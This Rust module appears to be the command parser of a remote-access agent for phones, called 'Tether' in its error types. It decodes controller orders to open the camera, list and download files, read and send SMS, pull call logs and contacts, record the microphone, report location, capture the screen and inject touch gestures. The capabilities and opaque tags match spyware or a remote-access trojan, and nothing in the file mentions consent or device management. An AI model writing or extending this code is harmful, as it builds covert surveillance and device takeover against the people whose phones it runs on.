//! Command model: what the controller can ask the agent to do.
//!
//! Inbound commands arrive on the `order` tag as a JSON object:
//!
//! ```json
//! { "order": "x0000fm", "extra": "ls", "path": "/sdcard" }
//! ```
//!
//! Decoding validates every argument up front. Nothing downstream sees a
//! half-formed command.

use std::fmt;
use std::time::Duration;

use serde_json::{Map, Value};

use crate::error::TetherError;

/// Longest gesture the agent will replay.
pub const MAX_GESTURE_DURATION: Duration = Duration::from_secs(60);

// ── CommandKind ──────────────────────────────────────────────────

/// The outer discriminator of a command. Each kind owns a wire tag, and
/// replies for that kind are sent on the same tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CommandKind {
    Camera,
    Files,
    Sms,
    CallLogs,
    Contacts,
    Mic,
    Location,
    RemoteControl,
}

impl CommandKind {
    pub const ALL: [CommandKind; 8] = [
        CommandKind::Camera,
        CommandKind::Files,
        CommandKind::Sms,
        CommandKind::CallLogs,
        CommandKind::Contacts,
        CommandKind::Mic,
        CommandKind::Location,
        CommandKind::RemoteControl,
    ];

    pub fn tag(self) -> &'static str {
        match self {
            CommandKind::Camera => "x0000ca",
            CommandKind::Files => "x0000fm",
            CommandKind::Sms => "x0000sm",
            CommandKind::CallLogs => "x0000cl",
            CommandKind::Contacts => "x0000cn",
            CommandKind::Mic => "x0000mc",
            CommandKind::Location => "x0000lm",
            CommandKind::RemoteControl => "x0000rc",
        }
    }
}

impl TryFrom<&str> for CommandKind {
    type Error = TetherError;

    fn try_from(value: &str) -> Result<Self, Self::Error> {
        CommandKind::ALL
            .into_iter()
            .find(|k| k.tag() == value)
            .ok_or_else(|| TetherError::UnknownTag(value.to_string()))
    }
}

impl fmt::Display for CommandKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.tag())
    }
}

// ── Argument types ───────────────────────────────────────────────

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CameraFacing {
    Back,
    Front,
}

impl CameraFacing {
    /// Platform camera index (`0` back, `1` front).
    pub fn index(self) -> u8 {
        match self {
            CameraFacing::Back => 0,
            CameraFacing::Front => 1,
        }
    }
}

#[repr(u8)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TouchAction {
    Down = 0,
    Up = 1,
    Move = 2,
}

impl TryFrom<i64> for TouchAction {
    type Error = TetherError;

    fn try_from(value: i64) -> Result<Self, Self::Error> {
        match value {
            0 => Ok(TouchAction::Down),
            1 => Ok(TouchAction::Up),
            2 => Ok(TouchAction::Move),
            _ => Err(TetherError::InvalidArgument("action")),
        }
    }
}

/// A screen coordinate in device pixels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Point {
    pub x: i32,
    pub y: i32,
}

impl Point {
    pub const fn new(x: i32, y: i32) -> Self {
        Self { x, y }
    }
}

// ── Command ──────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    ListCameras,
    StartCamera(CameraFacing),
    ListFiles { path: String },
    DownloadFile { path: String },
    ListSms,
    SendSms { to: String, body: String },
    ListCallLogs,
    ListContacts,
    RecordMic { seconds: u32 },
    GetLocation,
    CaptureStart,
    CaptureStop,
    InjectTouch { at: Point, action: TouchAction },
    InjectSwipe { from: Point, to: Point, duration: Duration },
    InjectLongPress { at: Point, duration: Duration },
}

impl Command {
    /// Decode a raw JSON body.
    pub fn decode(body: &[u8]) -> Result<Self, TetherError> {
        let value: Value = serde_json::from_slice(body)?;
        Self::from_value(&value)
    }

    pub fn from_value(value: &Value) -> Result<Self, TetherError> {
        let obj = value
            .as_object()
            .ok_or_else(|| TetherError::InvalidCommand("body is not a JSON object".into()))?;
        let kind = CommandKind::try_from(str_arg(obj, "order")?.as_str())?;
        let extra = || str_arg(obj, "extra");

        let cmd = match kind {
            CommandKind::Camera => match extra()?.as_str() {
                "camList" => Command::ListCameras,
                "1" => Command::StartCamera(CameraFacing::Front),
                "0" => Command::StartCamera(CameraFacing::Back),
                other => return Err(unknown_extra(kind, other)),
            },
            CommandKind::Files => match extra()?.as_str() {
                "ls" => Command::ListFiles {
                    path: str_arg(obj, "path")?,
                },
                "dl" => Command::DownloadFile {
                    path: str_arg(obj, "path")?,
                },
                other => return Err(unknown_extra(kind, other)),
            },
            CommandKind::Sms => match extra()?.as_str() {
                "ls" => Command::ListSms,
                "sendSMS" => Command::SendSms {
                    to: str_arg(obj, "to")?,
                    body: str_arg(obj, "sms")?,
                },
                other => return Err(unknown_extra(kind, other)),
            },
            CommandKind::CallLogs => Command::ListCallLogs,
            CommandKind::Contacts => Command::ListContacts,
            CommandKind::Mic => {
                let seconds = u32::try_from(int_arg(obj, "sec")?)
                    .ok()
                    .filter(|s| *s > 0)
                    .ok_or(TetherError::InvalidArgument("sec"))?;
                Command::RecordMic { seconds }
            }
            CommandKind::Location => Command::GetLocation,
            CommandKind::RemoteControl => match extra()?.as_str() {
                "start" => Command::CaptureStart,
                "stop" => Command::CaptureStop,
                "touch" => Command::InjectTouch {
                    at: point_arg(obj, "x", "y")?,
                    action: TouchAction::try_from(int_arg(obj, "action")?)?,
                },
                "swipe" => Command::InjectSwipe {
                    from: point_arg(obj, "x1", "y1")?,
                    to: point_arg(obj, "x2", "y2")?,
                    duration: duration_arg(obj)?,
                },
                "longPress" => Command::InjectLongPress {
                    at: point_arg(obj, "x", "y")?,
                    duration: duration_arg(obj)?,
                },
                other => return Err(unknown_extra(kind, other)),
            },
        };
        Ok(cmd)
    }

    pub fn kind(&self) -> CommandKind {
        match self {
            Command::ListCameras | Command::StartCamera(_) => CommandKind::Camera,
            Command::ListFiles { .. } | Command::DownloadFile { .. } => CommandKind::Files,
            Command::ListSms | Command::SendSms { .. } => CommandKind::Sms,
            Command::ListCallLogs => CommandKind::CallLogs,
            Command::ListContacts => CommandKind::Contacts,
            Command::RecordMic { .. } => CommandKind::Mic,
            Command::GetLocation => CommandKind::Location,
            Command::CaptureStart
            | Command::CaptureStop
            | Command::InjectTouch { .. }
            | Command::InjectSwipe { .. }
            | Command::InjectLongPress { .. } => CommandKind::RemoteControl,
        }
    }

    /// Short name for logs and audit rows. Never includes arguments.
    pub fn name(&self) -> &'static str {
        match self {
            Command::ListCameras => "list_cameras",
            Command::StartCamera(_) => "start_camera",
            Command::ListFiles { .. } => "list_files",
            Command::DownloadFile { .. } => "download_file",
            Command::ListSms => "list_sms",
            Command::SendSms { .. } => "send_sms",
            Command::ListCallLogs => "list_call_logs",
            Command::ListContacts => "list_contacts",
            Command::RecordMic { .. } => "record_mic",
            Command::GetLocation => "get_location",
            Command::CaptureStart => "capture_start",
            Command::CaptureStop => "capture_stop",
            Command::InjectTouch { .. } => "inject_touch",
            Command::InjectSwipe { .. } => "inject_swipe",
            Command::InjectLongPress { .. } => "inject_long_press",
        }
    }

    /// Commands whose work outlives the dispatch call and runs as a task.
    pub fn is_long_running(&self) -> bool {
        matches!(
            self,
            Command::StartCamera(_)
                | Command::DownloadFile { .. }
                | Command::RecordMic { .. }
                | Command::InjectSwipe { .. }
                | Command::InjectLongPress { .. }
        )
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.kind(), self.name())
    }
}

// ── Argument helpers ─────────────────────────────────────────────

fn unknown_extra(kind: CommandKind, extra: &str) -> TetherError {
    TetherError::InvalidCommand(format!("{kind}: unknown extra `{extra}`"))
}

fn str_arg(obj: &Map<String, Value>, key: &'static str) -> Result<String, TetherError> {
    match obj.get(key) {
        Some(Value::String(s)) => Ok(s.clone()),
        // Numeric selectors such as the camera id may arrive unquoted.
        Some(Value::Number(n)) => Ok(n.to_string()),
        _ => Err(TetherError::InvalidArgument(key)),
    }
}

/// Integers are accepted as JSON numbers or as numeric strings.
fn int_arg(obj: &Map<String, Value>, key: &'static str) -> Result<i64, TetherError> {
    let n = match obj.get(key) {
        Some(Value::Number(n)) => n.as_i64(),
        Some(Value::String(s)) => s.trim().parse().ok(),
        _ => None,
    };
    n.ok_or(TetherError::InvalidArgument(key))
}

fn coord_arg(obj: &Map<String, Value>, key: &'static str) -> Result<i32, TetherError> {
    i32::try_from(int_arg(obj, key)?).map_err(|_| TetherError::InvalidArgument(key))
}

fn point_arg(
    obj: &Map<String, Value>,
    x: &'static str,
    y: &'static str,
) -> Result<Point, TetherError> {
    Ok(Point::new(coord_arg(obj, x)?, coord_arg(obj, y)?))
}

fn duration_arg(obj: &Map<String, Value>) -> Result<Duration, TetherError> {
    let ms = u64::try_from(int_arg(obj, "duration")?)
        .map_err(|_| TetherError::InvalidArgument("duration"))?;
    let duration = Duration::from_millis(ms);
    if duration > MAX_GESTURE_DURATION {
        return Err(TetherError::InvalidArgument("duration"));
    }
    Ok(duration)
}

// ── Tests ────────────────────────────────────────────────────────
